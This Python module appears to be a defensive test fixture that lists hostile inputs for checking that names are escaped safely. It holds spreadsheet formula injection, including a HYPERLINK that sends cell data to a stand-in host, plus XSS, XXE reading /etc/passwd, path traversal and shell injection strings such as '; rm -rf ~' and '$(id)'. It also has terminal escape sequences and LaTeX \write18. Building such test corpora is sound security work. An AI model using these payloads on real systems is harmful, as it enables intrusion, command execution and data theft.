"""Texts that do something where they are not taken for texts: in a spreadsheet, a browser, a terminal.

They stand for what a source, or an analyst, may write as the name of a missile, an agency or a page.
"""

import itertools

STARTS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0@", "\ufeff="),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20"),
)
FORMULAS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://a.example/?"&A1,"x")', "DDE(0;0;0)")
# What a spreadsheet may take for the end of a cell: the rest is a cell of its own.
ENDS = ("a;", "a\t", "a\n", "a\r\n", 'a,"b";', '";', '",', "'", "a;\t", "a; ", ";;", "a;'")
CONTROLS = "\0\x01\a\b\t\n\v\f\r\x1b\x1c\x1f\x7f\x80\x85\x90\x9b\x9d\x9f\u2028\u2029\ufff9\ufffe\uffff"
DIRECTIONS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
HALVES = "\ud800\udbff\udc00\udcff\udfff"
INVISIBLE = "\u200b\u2060\u00ad\ufeff\U000e0041\U000e0001\ue000\U0010ffff"

KINDS: dict[str, tuple[str, ...]] = {
    "formula": tuple(start + rest for start, rest in itertools.product(STARTS, FORMULAS)),
    "formula after a separator": tuple(end + "=1+1" for end in ENDS),
    "other signs of a spreadsheet": (
        *("-5", "+5", "-0", "1,234", "1e999", "0x10", "2017-07-28", "TRUE", "NA", "nan", "null", "None"),
        *("'", "''", "'=1", "'quoted'", "sep=;", "#REF!", "# remark", ",,,", ";;;", "|cmd", "%0A=1"),
        *('"', '""', '"a"', 'a "b", c', '"=1', "a,b", "a;b", "a|b", '"\n=1', "MSEXCEL|'\\..\\..\\x'!'A1'"),
    ),
    "markup": (
        *("<script>alert(1)</script>", "</script>", "<b>", "</b>", "<", ">", "<>", "a < b & c > d"),
        *("<img src=x onerror=alert(1)>", "<svg onload=alert(1)/>", "<iframe src=//a.example>", "</svg>"),
        *("</text><script>1</script>", "<foreignObject><p/></foreignObject>", "<style>@import 'x'</style>"),
        *('"><script>1</script>', "' onload='alert(1)", '" onmouseover="alert(1)', "javascript:alert(1)"),
        *("]]>", "<![CDATA[", "<![CDATA[x]]><b>", "<!--", "-->", "--", "a--b", "---", "--!>", "<!---->"),
        "--><script/><!--",
        *("<?xml version='1.0'?>", "<?php 1 ?>", "<!DOCTYPE a>", "<%= 1 %>"),
        *('<!DOCTYPE a [<!ENTITY b "c">]>', '<!DOCTYPE a SYSTEM "file:///etc/passwd">'),
        *("&", "&amp;", "&lt;b&gt;", "&b;", "&#0;", "&#x1b;", "&#60;", "&amp;lt;", "&&", "&#xD800;"),
        *("<a xlink:href='javascript:1'>x</a>", "data:text/html,<script>1</script>", "<a/href=x>", "<\0b>"),
    ),
    "path": (
        *("../../etc/passwd", "..", ".", "/etc/passwd", "/", "a/../../b", "~/.ssh/id", "..\\..\\b", "C:\\b"),
        *("\\\\host\\share", "file:///etc/passwd", "%2e%2e%2fb", "..%c0%afb", "a\0.png", "CON", "nul.txt"),
        *("-rf", "--help", "--", "-", "; rm -rf ~", "| ls", "&& id", "> b", "$(id)", "`id`", "*", "a\nb.csv"),
    ),
    "control": tuple(f"a{one}b" for one in CONTROLS),
    "terminal": (
        *("\x1b[31mred", "\x1b[2J\x1b[H", "\x1b[1A\x1b[2Kgone", "\x1b[8mhidden", "\x1b[?1049h", "\x1bc"),
        *("\x1b]0;title\a", "\x1b]52;c;eA==\a", "\x1bP+q\x1b\\"),
        "\x1b]8;;https://a.example\x1b\\x\x1b]8;;\x1b\\",
        *("\x1b[6n", "\x1b(0", "\x9b31mred", "\x9d0;title\x9c", "seen\rgone", "seen\b\b\b\bgone", "^[[31m"),
    ),
    "words of the tables": (
        *("[red]", "[/]", "[/red]", "[bold]x[/bold]", "[link=https://a.example]x[/link]", "[@click=x]y[/]"),
        *("[[x]]", "\\[red]", "[", "]", "[]", "[not shown]", "[1]", ":skull:", ":warning: x", "[blink]"),
    ),
    "direction": (
        *(f"a{one}b" for one in DIRECTIONS),
        *("exe.\u202egnp.x", "\u2067a\u2066b\u2069\u2069", "\u05d0\u05d1 1,2"),
        "\u0645\u06cc\u200c\u0634\u0648\u062f",
    ),
    "letters": (
        *(f"a{one}b" for one in (*HALVES, *INVISIBLE)),
        *("é", "e\u0301", "\u212b", "\u0130", "\u212a", "ﬁ", "\uff46\uff55", "a\u200db"),
        "z" + 40 * "\u0336\u0489",
        *("화성-14", "\u1112\u116a\u1109\u1165\u11bc", "北極星", "\U0001f680", "\U0001f468\u200d\U0001f680"),
        *("a\u3000b", "a\u00a0b", "a  b", "\u0384\u1fbd", "\u2212 5", "\u2215", "\u037e", "½"),
    ),
    "long": (10_000 * "x", 2_000 * "word ", 3_000 * "[", 5_000 * "$", 3_000 * "=", 9_000 * "한", 900 * "<b>"),
    "format": (
        *("%s%n", "%(x)s", "%d", "%", "%%", "{}", "{0}", "{0.__class__}", "{x!r}", "{{}}", "{", "}"),
        *("{task.description}", "${HOME}", "$HOME", "%PATH%", "f'{1}'", "{% x %}", "{{ 7*7 }}", "#{1}"),
    ),
    "json": (
        *('"}', '\\"', "\\", "\\u0000", "\\ud800", '{"a": 1}', "[1]", "NaN", "Infinity", "*/", "//", "\\n"),
        *("__proto__", '"__class__": "os"', '",\n"b": "', "\ufeff{}", "1e5", "true"),
    ),
    "formula of a figure": (
        *("$", "$$", "$5", "$x^2$", r"$\frac$", r"$\frac{1}{2}$", r"\$", "a$b$c", r"$\unknown$"),
        *("$^$", "$_$", "$}{$", r"\input{/etc/passwd}", r"\write18{id}", r"$\mathdefault{x}$"),
        *("_hidden", "_", "__", "a_b^c"),
        *("{\\bf x}", "~", "^", "$\n$", r"$\mathrm{\href{x}{y}}$", r"\\", r"$\sqrt[$", "\\textbf{x}"),
    ),
}
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(one for kind in KINDS.values() for one in kind))


def is_writable(text: str) -> bool:
    """Whether a file of UTF-8 can hold it: halves of a character come from names that are no text."""
    return not any("\ud800" <= letter <= "\udfff" for letter in text)


def is_plain(text: str) -> bool:
    """Whether a source may well have printed it: to refuse it would be wrong."""
    return text.isprintable() and text == text.strip() and len(text) < 200
